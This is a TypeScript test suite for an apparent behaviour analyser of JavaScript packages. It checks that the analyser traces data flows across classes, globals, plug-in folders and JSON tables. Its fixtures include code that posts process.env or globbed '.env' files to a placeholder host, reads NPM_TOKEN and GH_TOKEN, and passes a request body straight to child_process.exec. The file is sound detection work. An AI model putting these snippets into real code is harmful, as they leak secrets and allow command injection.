import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

const SENT = 'process.env → fetch as content';
const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
type Files = Readonly<Record<string, string | object>>;

const lines = (files: Files): string[] => behaviourOf(files).effects.map(lineOf);

describe('a class that others extend', () => {
  const base = `exports.Base = class { go() { const b = this.collect(); ${POST} } }`;
  const own = (name: string): string =>
    `const { Base } = require('./base'); exports.Own = class extends Base { ${name}() { return process.env; } }`;
  it('calls what they have', () =>
    assert.deepEqual(
      flowLines({ 'index.js': `const { Own } = require('./own'); new Own().go()`, 'own.js': own('collect'), 'base.js': base }),
      [SENT],
    ));
  it('at the time at which they are made', () =>
    assert.ok(
      lines({
        'index.js': `const { Own } = require('./own'); [new Own()].forEach(one => one.go())`,
        'own.js': own('collect'),
        'base.js': base,
      }).includes('import connects fetch(https://a.invalid)'),
    ));
  it('once, where they are written to extend each other in a circle', () =>
    assert.ok(
      lines({
        'index.js': `const { A } = require('./a'); new A().go(); fetch('https://a.invalid')`,
        'a.js': `const { B } = require('./b'); exports.A = class extends B { a() {} }`,
        'b.js': `const { A } = require('./a'); exports.B = class extends A { b() {} }`,
      }).includes('import connects fetch(https://a.invalid)'),
    ));
  it('not what they have under another name', () =>
    assert.deepEqual(
      flowLines({ 'index.js': `const { Own } = require('./own'); new Own().go()`, 'own.js': own('gather'), 'base.js': base }),
      [],
    ));
});

describe('what files share', () => {
  for (const [what, write, read] of [
    ['by a member of a global', 'global.d = {}; global.d.x = process.env', 'global.d.x'],
    ['by process', 'process.d = process.env', 'process.d'],
  ] as const)
    it(what, () => assert.deepEqual(flowLines({ 'index.js': `${write}; require('./b')`, 'b.js': `const b = ${read}; ${POST}` }), [SENT]));
  for (const [what, write, read] of [
    ['by a member of a member of a global', 'global.d = {}; global.d.x = process.env', 'global.d.x'],
    ['by an object in a global', 'global.d = { x: process.env }', 'global.d.x'],
    ['by a member of a member of process', 'process.d = {}; process.d.x = process.env', 'process.d.x'],
  ] as const)
    it(`${what}, with itself`, () => assert.deepEqual(flowLines({ 'index.js': `${write}; const b = ${read}; ${POST}` }), [SENT]));
  it('another member holds something else', () =>
    assert.deepEqual(flowLines({ 'index.js': `global.d = {}; global.d.x = process.env; const b = global.d.y; ${POST}` }), []));
  it('what a page keeps in its window is followed into the files that are loaded there', () =>
    assert.deepEqual(
      flowLines({ 'index.js': `window.d = require('fs').readFileSync('/x'); require('./b')`, 'b.js': `const b = window.d; ${POST}` }),
      ['fs.readFileSync → fetch as content'],
    ));
  it('by a class that tells what it has', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const { R } = require('./r'); const r = new R(); r.on('ready', b => { ${POST} }); r.load()`,
        'r.js': `const { EventEmitter } = require('events'); exports.R = class extends EventEmitter { load() { this.emit('ready', process.env); } }`,
      }),
      [SENT],
    ));
});

describe('steps in tables of data', () => {
  it('one text of each row', () =>
    assert.deepEqual(
      lines({
        'index.js': `for (const t of require('./t.json')) require('fs').unlinkSync('/tmp/' + t.file)`,
        't.json': [{ file: 'a' }, { file: 'b' }],
      }),
      ['import deletes fs.unlinkSync(/tmp/a | /tmp/b)'],
    ));
  it('several texts of each row, row by row', () =>
    assert.deepEqual(
      lines({
        'index.js': `const row = require('./t.json')[process.platform]; require('child_process').execSync(row.shell + ' ' + row.line)`,
        't.json': { win32: { shell: 'cmd', line: '/c x' }, linux: { shell: 'sh', line: 'y' } },
      }).filter(line => line.includes('spawns')),
      ['import spawns child_process.execSync(cmd /c x | sh y)'],
    ));
  it('a table in code, by a name that is not known', () =>
    assert.deepEqual(
      lines({
        'index.js': `const t = { a: { f: '/x' }, b: { f: '/y' } }; for (const k of Object.keys(t)) { const { f } = t[k]; require('fs').unlinkSync(f) }`,
      }),
      ['import deletes fs.unlinkSync(/x | /y)'],
    ));
  it('a member that no row has tells nothing', () =>
    assert.deepEqual(
      lines({
        'index.js': `for (const t of require('./t.json')) require('fs').unlinkSync('/tmp/' + t.other.name)`,
        't.json': [{ file: 'a' }],
      }),
      ['import deletes fs.unlinkSync(/tmp/*)'],
    ));
});

describe('folders of plug-ins', () => {
  const plugin = `exports.go = () => fetch('https://a.invalid')`;
  const load = (list: string): string => `const fs = require('fs'); const p = require('path'); ${list}`;
  it('that are listed are loaded', () =>
    assert.ok(
      lines({
        'index.js': load(`fs.readdirSync(p.join(__dirname, 'plugins')).forEach(f => require(p.join(__dirname, 'plugins', f)))`),
        'plugins/a.js': `fetch('https://a.invalid')`,
      }).includes('import connects fetch(https://a.invalid)'),
    ));
  it('however many there are', () =>
    assert.ok(
      lines({
        'index.js': load(`fs.readdirSync(p.join(__dirname, 'plugins')).forEach(f => require(p.join(__dirname, 'plugins', f)))`),
        ...Object.fromEntries(Array.from({ length: 100 }, (_, at) => [`plugins/${at}.js`, '0'])),
        'plugins/a.js': `fetch('https://a.invalid')`,
      }).includes('import connects fetch(https://a.invalid)'),
    ));
  it('that nothing lists are not', () =>
    assert.ok(
      !lines({ 'index.js': load(`module.exports = f => require(p.join(__dirname, 'plugins', f))`), 'plugins/a.js': plugin }).some(line =>
        line.startsWith('import connects'),
      ),
    ));
});

describe('handlers in files of their own', () => {
  it('are given the request', () =>
    assert.equal(
      behaviourOf({
        'index.js': `const r = require('express').Router(); r.post('/x', require('./act').act); module.exports = r`,
        'act.js': `exports.act = (q, s) => { require('child_process').exec(q.body.c); }`,
      })
        .effects.find(({ kind }) => kind === 'spawns')
        ?.details.get('holds'),
      'request',
    ));
  it('of whoever else calls them are given what that gives', () =>
    assert.equal(
      behaviourOf({
        'index.js': `const { act } = require('./act'); module.exports = list => list.map(act)`,
        'act.js': `exports.act = (q, s) => { require('child_process').exec(q.body.c); }`,
      })
        .effects.find(({ kind }) => kind === 'spawns')
        ?.details.get('holds'),
      undefined,
    ));
});

describe('what is found or copied first', () => {
  it('what is written to what a pattern finds is written there', () =>
    assert.deepEqual(
      lines({ 'index.js': `require('fast-glob').sync('/a/*/b.js').forEach(f => require('fs').writeFileSync(f, 'x'))` }).filter(line =>
        line.includes('writes'),
      ),
      ['import writes file fs.writeFileSync(/a/*/b.js)'],
    ));
  it('a copy that is read is what it was made of', () =>
    assert.ok(
      lines({
        'index.js': `const fs = require('fs'); fs.copyFileSync('/srv/secret', '/tmp/copy'); fs.readFileSync('/tmp/copy')`,
      }).includes('import reads file fs.readFileSync(/srv/secret | /tmp/copy)'),
    ));
  it('a copy of something else hides neither what is read nor what was copied before', () => {
    const before = `const fs = require('fs'); fs.copyFileSync('/srv/secret', '/tmp/copy'); if (process.env.INERT) fs.copyFileSync('/etc/inert', '/srv/secret');`;
    const told = lines({
      'index.js': `${before} fs.copyFileSync('/etc/inert', '/tmp/copy'); fs.readFileSync('/tmp/copy'); fs.readFileSync('/srv/secret')`,
    });
    assert.ok(told.includes('import reads file fs.readFileSync(/srv/secret | /etc/inert | /tmp/copy)'));
    assert.ok(told.includes('import reads file fs.readFileSync(/etc/inert | /srv/secret)'));
  });
  it('another file is not', () =>
    assert.ok(
      lines({
        'index.js': `const fs = require('fs'); fs.copyFileSync('/srv/secret', '/tmp/copy'); fs.readFileSync('/tmp/other')`,
      }).includes('import reads file fs.readFileSync(/tmp/other)'),
    ));
  it('what goes through a function of the file for each that is found', () =>
    assert.ok(
      flowLines({
        'index.js': `(async () => { const b = (await require('globby')('**/.env')).map(p => [p, require('fs').readFileSync(p)]); ${POST} })()`,
      }).includes('fs.readFileSync → fetch as content'),
    ));
});

describe('settings that another file brings', () => {
  const told = (files: Files): string[] => behaviourOf(files).effects.map(({ kind, target }) => `${kind} ${target}`);
  it('which variables of the environment are meant', () =>
    assert.ok(
      told({
        'index.js': `const { names } = require('./names'); require('./read')(names)`,
        'names.js': `exports.names = ['NPM_TOKEN', 'GH_TOKEN']`,
        'read.js': `module.exports = names => names.map(name => process.env[name])`,
      }).includes('reads environment NPM_TOKEN | GH_TOKEN'),
    ));
  it('of any name nothing is told', () =>
    assert.ok(
      told({
        'index.js': `require('./read')(process.argv)`,
        'read.js': `module.exports = names => names.map(name => process.env[name])`,
      }).includes('reads environment '),
    ));
  it('an object of a file of data, member by member', () =>
    assert.ok(
      told({
        'index.js': `const App = require('./lib/app'); new App({ fs: require('fs'), set: require('./set.json') }).go()`,
        'set.json': { file: '/x' },
        'lib/app.js': `module.exports = class { constructor(d) { Object.assign(this, d); } go() { this.fs.unlinkSync(this.set.file); } }`,
      }).includes('deletes /x'),
    ));
  it('a method that gives the object itself is followed by the next', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const R = require('./r'); new R().about(process.env).send()`,
        'r.js': `module.exports = class { about(x) { this.x = x; return this; } send() { const b = this.x; ${POST} } }`,
      }),
      [SENT],
    ));
});

it('an export whose name begins like that of the default one is another', () =>
  assert.ok(
    lines({
      'index.js': `const { defaults } = require('./d'); require('fs').unlinkSync(defaults.file)`,
      'd.js': `exports.defaults = { file: '/x' }`,
    }).includes('import deletes fs.unlinkSync(/x)'),
  ));

it('what stands behind a test is not what is tested', () => {
  const code = (operator: string): string =>
    `const a = process.env.APPDATA; const s = a ${operator} require('path').join(a, 'x'); require('fs').unlinkSync(s)`;
  assert.ok(lines({ 'index.js': code('&&') }).includes('import deletes fs.unlinkSync(<env:APPDATA>/x)'));
  assert.ok(!lines({ 'index.js': code('||') }).includes('import deletes fs.unlinkSync(<env:APPDATA>/x)'));
});

it('each program is told with its own words, in whichever of two folders it lies', () => {
  const { effects } = behaviourOf({
    'index.js': `const { file, args } = of(process.platform, process.env.ROOT ?? '/opt');
      require('child_process').spawn(file, args);
      function of(platform, root) {
        if (platform === 'win32') return { file: root + '/tool.exe', args: ['/q', '/x'] };
        return { file: 'tool', args: ['a', 'b'].flatMap(one => ['-e', one]) };
      }`,
  });
  const [started] = effects.filter(one => one.kind === 'spawns');
  assert.equal(started?.details.get('lines'), '<env:ROOT>/tool.exe /q /x\n/opt/tool.exe /q /x\ntool -e a -e b');
});
